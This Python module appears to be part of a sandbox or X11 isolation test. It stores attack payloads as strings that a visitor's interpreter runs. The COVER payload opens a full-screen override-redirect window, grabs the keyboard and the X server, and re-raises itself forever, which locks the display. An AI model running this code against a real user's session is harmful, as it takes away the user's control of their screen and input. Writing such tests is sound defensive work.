"""What an attacker with the X libraries can do, as text for the visitor's interpreter."""

X11 = """
X = ctypes.CDLL("libX11.so.6")
D = ctypes.c_void_p
X.XOpenDisplay.restype = D
X.XGetImage.restype = ctypes.c_void_p
X.XDefaultRootWindow.argtypes = [D]
X.XDefaultRootWindow.restype = ctypes.c_ulong
for name in ("XSync", "XKillClient", "XUnmapWindow", "XDestroyWindow", "XGrabServer", "XMapRaised",
             "XRaiseWindow", "XFlush"):
    getattr(X, name).argtypes = [D, ctypes.c_ulong]
X.XGrabServer.argtypes = [D]
X.XFlush.argtypes = [D]
HANDLER = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p)
ignore = HANDLER(lambda display, error: 0)
X.XSetErrorHandler(ignore)
def connect(name=":9"):
    return X.XOpenDisplay(name.encode())
own = connect()
root = X.XDefaultRootWindow(own)
"""

COVER = (
    X11
    + """
X.XCreateSimpleWindow.argtypes = [D, ctypes.c_ulong] + [ctypes.c_int] * 2 + [ctypes.c_uint] * 3 \
    + [ctypes.c_ulong] * 2
X.XCreateSimpleWindow.restype = ctypes.c_ulong
X.XGrabKeyboard.argtypes = [D, ctypes.c_ulong] + [ctypes.c_int] * 3 + [ctypes.c_ulong]
cover = X.XCreateSimpleWindow(own, root, 0, 0, 4000, 4000, 0, 0, 0xFF0000)
class Attributes(ctypes.Structure):
    _fields_ = [("before", ctypes.c_byte * 88), ("override", ctypes.c_int),
                ("after", ctypes.c_byte * 20)]
attributes = Attributes()
attributes.override = 1
X.XChangeWindowAttributes.argtypes = [D, ctypes.c_ulong, ctypes.c_ulong, ctypes.c_void_p]
X.XChangeWindowAttributes(own, cover, 1 << 9, ctypes.byref(attributes))
X.XMapRaised(own, cover)
X.XSync(own, 0)
told["keyboard"] = X.XGrabKeyboard(own, root, 1, 1, 1, 0)
X.XGrabServer(own)
X.XSync(own, 0)
tell()
while True:
    X.XRaiseWindow(own, cover)
    X.XFlush(own)
    time.sleep(0.001)
"""
)
"""Covers everything, raises itself for ever, holds the keyboard and the whole server."""
